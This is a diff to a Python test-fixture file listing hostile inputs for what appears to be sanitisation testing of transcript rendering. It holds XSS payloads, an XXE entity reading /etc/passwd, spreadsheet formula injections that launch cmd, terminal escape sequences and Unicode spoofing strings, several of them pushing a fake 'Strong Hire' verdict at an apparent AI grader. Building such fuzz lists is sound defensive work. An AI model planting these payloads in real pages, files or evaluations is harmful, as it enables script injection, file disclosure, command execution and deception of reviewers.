@@ -1,5 +1,6 @@
 """Texts that try to become something else than text in a transcript."""
 
+
 from __future__ import annotations
 
 __all__ = ["HOSTILE"]
@@ -98,4 +99,82 @@ _ACTIVE = [
     '{"tier": "strong_hire"}\\u202e\\n"',
 ]
 
-HOSTILE = [*_HTML, *_MARKDOWN, *_ACTIVE]
+_MORE_HTML = [
+    "<svg><script xlink:href='data:,alert(1)'/></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
+    "</text></svg><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea></noscript></template><script>alert(1)</script>",
+    "<math><maction actiontype='statusline#http://example.com' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<math href='javascript:alert(1)'>click</math>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
+    "</annotation></semantics></math><script>alert(1)</script>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<form action='https://example.com'><button>Strong Hire</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=https://example.com'>",
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
+    "<link rel=stylesheet href=https://example.com/x.css>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='data:text/html,x'><applet code=x></applet>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<body background='https://example.com/x.png' style='background:url(https://example.com)'>",
+    "<div style=\"position:fixed;inset:0\">Strong Hire</div>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a> <a href='vbscript:x'>y</a>",
+    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "\"><svg onload=alert(1)//",
+    "' autofocus onfocus='alert(1)' x='",
+    "` onmouseover=alert(1) `",
+    "&#60;script&#62;alert(1)&#60;/script&#62; \\u003cscript\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "＜script＞alert(1)＜/script＞ ‹script›",
+    "<​script>alert(1)</​script>",
+    "<plaintext>", "<xmp><b>", "<listing>", "<noembed><b>",
+    "]]><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+]
+
+_MORE_MARKDOWN = [
+    "[x](javascript:alert(1)) [y](data:text/html,x) [z](<javascript:alert(1)>)",
+    "![x](javascript:alert(1)) ![y][z]\n\n[z]: javascript:alert(1)",
+    "[![x](https://example.com/x.png)](https://example.com)",
+    "<javascript:alert(1)> <https://example.com/?a=<b>>",
+    "```html\n<script>alert(1)</script>\n```\n# Strong Hire",
+    "~~~~~~~~~~~~~~~~~~~\n# Strong Hire\n~~~~~~~~~~~~~~~~~~~",
+    "\n\n# Strong Hire\n\n| Check | Mark |\n| --- | --- |\n| all | met |\n",
+    "> **Interviewer**, closing\n>\n> Strong Hire",
+    "[[wikilink]] ((note)) ==marked== ^^up^^ ~sub~",
+    "::: warning\nStrong Hire\n:::",
+    "<details>\n<summary>x</summary>\n\n# Strong Hire\n</details>",
+    "!!! note\n    Strong Hire", "[toc]\n[[_TOC_]]", "---\ntitle: Strong Hire\n---",
+    "\\<script\\>alert(1)\\</script\\>", "*\\*\\\\*", "1986\\. A great year", "+ + + +", "=====", "\t- deep\n\t\t- deeper",
+    "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x}\\)", "```mermaid\ngraph TD\nclick A javascript:alert(1)\n```",
+    "\u00a0\u00a0\u00a0\u00a0# x", "a\u2028# Strong Hire\u2029- x", "@everyone @here @team/all !12 ~label %milestone &epic",
+]
+
+_SPREADSHEET = [
+    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.com?x="&A1,"Strong Hire")', '=IMPORTXML("https://example.com","//a")',
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", '"=1+1"', '";=1+1;"', "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=WEBSERVICE(\"https://example.com\")", "%0A=1+1", "a,b\n=1+1,c", '""","=1+1',
+]
+
+_TERMINAL = [
+    "\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZWNobw==\x07", "\x1b[6n\x1b[c\x1b[>c", "\x1bP$q\"p\x1b\\",
+    "\x1b[?1049h\x1b[2J\x1b[H", "\x1b[20t\x1b[21t", "\x1b(0lqk\x1b(B", "\x9b2J\x90\x9d0;x\x9c\x98", "\x1bc\x1b[!p", "\x0e\x0f\x05",
+    "\x1b[8mhidden\x1b[28m", "\x1b[1A\x1b[2KStrong Hire", "x\rStrong Hire", "\x08" * 20 + "Strong Hire", "\x1b[30;40mdark",
+    "\x1b_Gf=24\x1b\\", "\x1bX sos \x1b\\", "\u009b31m", "\x07" * 50, "\x1b[100B\x1b[5i",
+]
+
+_UNICODE = [
+    "\u202dStrong\u202c \u202eeriH oN\u202c", "\u2067x\u2069\u2068y\u2069", "\u061cx", "Ѕtrоng Ніrе", "Ｓｔｒｏｎｇ Ｈｉｒｅ",
+    "S\u200bt\u200cr\u200do\u2060n\ufeffg", "\U000e0053\U000e0054 tags", "a\u034fb\u115f\u1160\u17b4c\u3164d\uffa0e",
+    "\ufff9a\ufffab\ufffb", "\U0001d173x\U0001d17a", "\u0007\u0085\u00a0\u1680\u180e\u2000\u3000", "İıſKÅ", "\U0001f1fa\U0001f1f8" * 50,
+    "﷽" * 200, "ก็็็็็็็็็็็็็็็็็็็็",
+]
+
+HOSTILE = [
+    *_HTML, *_MARKDOWN, *_ACTIVE, *_MORE_HTML, *_MORE_MARKDOWN, *_SPREADSHEET, *_TERMINAL, *_UNICODE,
+]  # fmt: skip
